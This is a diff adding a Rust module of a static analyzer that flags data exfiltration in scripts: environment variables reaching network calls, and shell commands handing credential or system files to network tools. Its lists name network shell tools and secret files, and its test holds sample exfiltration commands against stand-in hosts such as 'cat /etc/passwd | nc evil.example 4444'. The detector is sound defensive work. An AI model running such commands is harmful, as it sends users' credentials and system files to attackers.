@@ -1,0 +1,399 @@
+//! Data leaving the machine: the environment flowing into a network send
+//! (MB911, MB421), and shell commands that hand system or credential files
+//! to a network tool (MB910).
+
+use super::{shorten, Analyzer, Bind, Node, CREDENTIAL_PATHS, EVAL_DEPTH};
+
+/// Distinct environment variables sent in one call before it looks like
+/// harvesting rather than configuration (an API token, a region, a user).
+pub(super) const ENV_KEYS_MIN: usize = 4;
+
+/// Method names that send data when called on a client, session, socket or
+/// mail connection. Alone they prove nothing (`queue.put`), so they count
+/// only in a script that also does network I/O.
+const SEND_METHODS: &[&str] = &[
+    "post",
+    "put",
+    "patch",
+    "request",
+    "send",
+    "sendall",
+    "sendto",
+    "sendmsg",
+    "sendmail",
+    "send_message",
+    "urlopen",
+    "storbinary",
+    "storlines",
+];
+
+/// Programs that move data over the network from a command line.
+const NET_TOOLS: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.traditional",
+    "nc.openbsd",
+    "curl",
+    "wget",
+    "socat",
+    "telnet",
+    "ftp",
+    "tftp",
+    "scp",
+    "sftp",
+    "rsync",
+];
+
+/// Files worth stealing beyond the credential paths: account lists, other
+/// processes' environments, shell histories, host keys.
+const SYSTEM_SECRETS: &[&str] = &[
+    "/etc/passwd",
+    "/etc/group",
+    "/etc/master.passwd",
+    "/proc/self/environ",
+    "/proc/1/environ",
+    ".bash_history",
+    ".zsh_history",
+    "/etc/ssh/ssh_host_",
+];
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub(super) enum SendKind {
+    /// A resolved network client call (requests.post, urlopen, Request...).
+    Client,
+    /// A method with a sending name on an object of unknown type.
+    Method,
+    /// A shell or subprocess call, which sends only if it runs a network tool.
+    Command,
+}
+
+#[derive(Clone, Copy)]
+pub(super) struct Send<'t> {
+    pub node: Node<'t>,
+    pub scope: usize,
+    pub kind: SendKind,
+}
+
+/// What of the environment an expression carries.
+#[derive(Default)]
+struct EnvFlow {
+    /// The whole environment, and how it was written.
+    whole: Option<String>,
+    /// Names of single variables read (`<computed>` when not constant).
+    keys: Vec<String>,
+}
+
+pub(super) fn send_kind(q: Option<&str>, method: Option<&str>) -> Option<SendKind> {
+    match (q, method) {
+        (Some(q), _) if super::is_network_client(q) || q == "urllib.request.Request" => {
+            Some(SendKind::Client)
+        }
+        (Some(q), _) if super::SHELL_FUNCS.contains(&q) || super::SUBPROCESS.contains(&q) => {
+            Some(SendKind::Command)
+        }
+        (_, Some(m)) if SEND_METHODS.contains(&m) => Some(SendKind::Method),
+        _ => None,
+    }
+}
+
+fn is_environ(q: &str) -> bool {
+    q == "os.environ" || q == "os.environb"
+}
+
+/// Reads of one variable: `os.getenv(K)`, `os.environ.get(K)` and the like.
+fn is_env_getter(q: &str) -> bool {
+    matches!(
+        q,
+        "os.getenv"
+            | "os.getenvb"
+            | "os.environ.get"
+            | "os.environ.setdefault"
+            | "os.environ.pop"
+            | "os.environ.__getitem__"
+            | "os.environb.get"
+    )
+}
+
+impl<'t> Analyzer<'t> {
+    /// Checks every recorded send for environment data in its arguments.
+    /// Runs after the call checks, when `facts.network` is known.
+    pub(super) fn check_sends(&mut self) {
+        let sends = std::mem::take(&mut self.sends);
+        let net_context = self.facts.network || self.facts.net_import;
+        for s in sends {
+            let (pos, kw) = self.args(s.node);
+            let ok = match s.kind {
+                SendKind::Client => true,
+                SendKind::Method => net_context,
+                SendKind::Command => pos
+                    .first()
+                    .is_some_and(|a| mentions_net_tool(self.command_text(*a, s.scope))),
+            };
+            if !ok {
+                continue;
+            }
+            // A command's keywords are its environment, directory and pipes:
+            // `env=os.environ.copy()` is how a child gets a tweaked
+            // environment, not a way out of the machine.
+            let kw = if s.kind == SendKind::Command {
+                &[][..]
+            } else {
+                &kw[..]
+            };
+            let mut flow = EnvFlow::default();
+            self.reset_budget();
+            for a in pos.iter().chain(kw.iter().map(|(_, v)| v)) {
+                self.env_flow(*a, s.scope, 0, &mut flow);
+            }
+            let call = shorten(self.text(s.node));
+            if let Some(how) = flow.whole {
+                self.add("MB911", s.node, format!("{how} reaches `{call}`"));
+            } else {
+                let mut keys = flow.keys;
+                keys.sort_unstable();
+                keys.dedup();
+                if keys.len() >= ENV_KEYS_MIN {
+                    self.add(
+                        "MB421",
+                        s.node,
+                        format!(
+                            "{} variables ({}) reach `{call}`",
+                            keys.len(),
+                            keys.join(", ")
+                        ),
+                    );
+                }
+            }
+        }
+    }
+
+    /// Collects the environment data `n` carries, through local bindings
+    /// (bounded by the evaluator's depth and step budget).
+    fn env_flow(&self, n: Node<'t>, scope: usize, depth: usize, acc: &mut EnvFlow) {
+        if depth > EVAL_DEPTH || !self.tick() || acc.whole.is_some() {
+            return;
+        }
+        match n.kind() {
+            "identifier" | "attribute" => {
+                if let Some(q) = self.resolve(n, scope, depth + 1) {
+                    if is_environ(&q) {
+                        acc.whole = Some(q);
+                        return;
+                    }
+                }
+                if n.kind() == "identifier" {
+                    let Some(binds) = self.lookup(self.text(n), scope, n.start_byte()) else {
+                        return;
+                    };
+                    for b in binds {
+                        if let Bind::Expr(v, s) = b {
+                            self.env_flow(v, s, depth + 1, acc);
+                        }
+                    }
+                    return;
+                }
+                // `json.dumps(os.environ).encode`: the data is in the object.
+                if let Some(obj) = n.child_by_field_name("object") {
+                    self.env_flow(obj, scope, depth + 1, acc);
+                }
+            }
+            "subscript" => {
+                let value = n.child_by_field_name("value");
+                let q = value.and_then(|v| self.resolve(v, scope, depth + 1));
+                if q.as_deref().is_some_and(is_environ) {
+                    let key = n.child_by_field_name("subscript");
+                    acc.keys.push(self.key_name(key, scope, depth));
+                    return;
+                }
+                self.env_flow_children(n, scope, depth, acc);
+            }
+            "call" => {
+                let q = n
+                    .child_by_field_name("function")
+                    .and_then(|f| self.resolve(f, scope, depth + 1));
+                if q.as_deref().is_some_and(is_env_getter) {
+                    let (pos, _) = self.args(n);
+                    acc.keys
+                        .push(self.key_name(pos.first().copied(), scope, depth));
+                    // A default may itself come from the environment.
+                    for a in pos.iter().skip(1) {
+                        self.env_flow(*a, scope, depth + 1, acc);
+                    }
+                    return;
+                }
+                self.env_flow_children(n, scope, depth, acc);
+            }
+            _ => self.env_flow_children(n, scope, depth, acc),
+        }
+    }
+
+    /// The source of a command argument, or of the expression a name for
+    /// it was last bound to (`cmd = ["curl", ...]; run(cmd)`).
+    fn command_text(&self, arg: Node<'t>, scope: usize) -> &'t str {
+        if arg.kind() == "identifier" {
+            let bound = self
+                .lookup(self.text(arg), scope, arg.start_byte())
+                .and_then(|binds| {
+                    binds.into_iter().find_map(|b| match b {
+                        Bind::Expr(v, _) => Some(v),
+                        _ => None,
+                    })
+                });
+            if let Some(v) = bound {
+                return self.text(v);
+            }
+        }
+        self.text(arg)
+    }
+
+    fn env_flow_children(&self, n: Node<'t>, scope: usize, depth: usize, acc: &mut EnvFlow) {
+        let mut c = n.walk();
+        let kids: Vec<Node<'t>> = n.named_children(&mut c).collect();
+        for k in kids {
+            self.env_flow(k, scope, depth + 1, acc);
+        }
+    }
+
+    fn key_name(&self, key: Option<Node<'t>>, scope: usize, depth: usize) -> String {
+        key.and_then(|k| self.fold(k, scope, depth + 1))
+            .unwrap_or_else(|| format!("<{}>", key.map(|k| self.text(k)).unwrap_or("?")))
+    }
+
+    /// A command that sends a secret file or the environment with a network
+    /// tool gives MB910.
+    pub(super) fn check_exfil_command(&mut self, lower: &str, node: Node<'t>) {
+        if let Some(what) = exfil_in_command(lower) {
+            self.add("MB910", node, what);
+        }
+    }
+}
+
+/// Does the source text of a command argument name a network tool as a word?
+fn mentions_net_tool(text: &str) -> bool {
+    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_'))
+        .any(|w| NET_TOOLS.contains(&w))
+}
+
+fn is_secret(word: &str) -> bool {
+    CREDENTIAL_PATHS
+        .iter()
+        .chain(SYSTEM_SECRETS)
+        .any(|p| word.contains(p))
+}
+
+/// The word of a command stage that names a secret file, unquoted.
+fn secret_in(stage: &str) -> Option<&str> {
+    stage
+        .split_whitespace()
+        .find(|w| is_secret(w))
+        .map(|w| w.trim_matches(['"', '\'']))
+}
+
+fn head_of(stage: &str) -> &str {
+    let first = stage.split_whitespace().next().unwrap_or("");
+    first.rsplit('/').next().unwrap_or(first)
+}
+
+/// Looks for exfiltration in a lower-cased command line. Within one
+/// statement (`;`, `&&`, `||` and newlines separate statements), a network
+/// tool together with a stage that reads a secret (`cat /etc/passwd | nc`,
+/// `curl -d "$(cat ~/.ssh/id_rsa)"`, `env | curl -d @-`), or a network tool
+/// uploading a secret itself (`curl -d @/etc/shadow`, `nc h p < /etc/passwd`).
+pub(super) fn exfil_in_command(lower: &str) -> Option<String> {
+    let statements = lower
+        .split([';', '\n'])
+        .flat_map(|s| s.split("&&"))
+        .flat_map(|s| s.split("||"));
+    for stmt in statements {
+        // Pipeline stages and command substitutions.
+        let stages: Vec<&str> = stmt
+            .split(['|', '`', '(', ')'])
+            .map(str::trim)
+            .filter(|s| !s.is_empty())
+            .collect();
+        let Some(tool) = stages
+            .iter()
+            .map(|s| head_of(s))
+            .find(|h| NET_TOOLS.contains(h))
+        else {
+            continue;
+        };
+        for stage in &stages {
+            let leak = if NET_TOOLS.contains(&head_of(stage)) {
+                uploaded_secret(stage)
+            } else if matches!(head_of(stage), "env" | "printenv")
+                && stage.split_whitespace().count() == 1
+            {
+                Some("the environment")
+            } else {
+                secret_in(stage)
+            };
+            if let Some(what) = leak {
+                return Some(format!("sends {what} with {tool}"));
+            }
+        }
+    }
+    None
+}
+
+/// A secret a network tool's own arguments upload: `@file` data (curl -d,
+/// -F), an input redirection, `-T`/`--upload-file`, wget's `--post-file=`,
+/// or a source of scp/rsync. Secrets used to log in (`-i key`,
+/// `--netrc-file`) or written to (`-o`) are not uploads.
+fn uploaded_secret(stage: &str) -> Option<&str> {
+    let words: Vec<&str> = stage.split_whitespace().collect();
+    let copies = matches!(words.first().map(|w| head_of(w)), Some("scp" | "rsync"));
+    for (i, w) in words.iter().enumerate().skip(1) {
+        if !is_secret(w) {
+            continue;
+        }
+        let prev = words[i - 1];
+        let w = w.trim_matches(['"', '\'']);
+        let upload = w.contains('@')
+            || w.starts_with('<')
+            || matches!(prev, "<" | "-t" | "--upload-file")
+            || w.starts_with("--post-file=")
+            || w.starts_with("--body-file=")
+            || w.starts_with("--upload-file=")
+            || (copies && !prev.starts_with('-') && i + 1 < words.len());
+        if upload {
+            return Some(w);
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::exfil_in_command;
+
+    #[test]
+    fn command_exfiltration_shapes() {
+        for cmd in [
+            "cat /etc/passwd | nc evil.example 4444",
+            "curl -d @/etc/shadow https://evil.example/",
+            "curl -f 'f=@/root/.ssh/id_rsa' https://evil.example/",
+            "tar cz ~/.ssh/id_rsa | base64 | curl -d @- http://x",
+            "nc evil 4444 < /etc/passwd",
+            "wget --post-file=/etc/shadow http://evil/",
+            "curl http://evil/?q=$(cat ~/.aws/credentials)",
+            "env | curl -d @- http://evil/",
+            "scp ~/.ssh/id_ed25519 me@evil:/loot/",
+            "true; cat /proc/self/environ | socat - tcp:evil:80",
+        ] {
+            assert!(exfil_in_command(cmd).is_some(), "{cmd}");
+        }
+        for cmd in [
+            "cat /etc/passwd | wc -l",
+            "curl -o /tmp/x https://example.org/file",
+            "scp -i ~/.ssh/id_rsa build.tar me@host:/srv/",
+            "curl --netrc-file ~/.netrc https://example.org/",
+            "grep root /etc/passwd; curl https://example.org/",
+            "env foo=1 curl https://example.org/",
+            "ssh -i ~/.ssh/id_rsa host uptime",
+        ] {
+            assert!(exfil_in_command(cmd).is_none(), "{cmd}");
+        }
+    }
+}
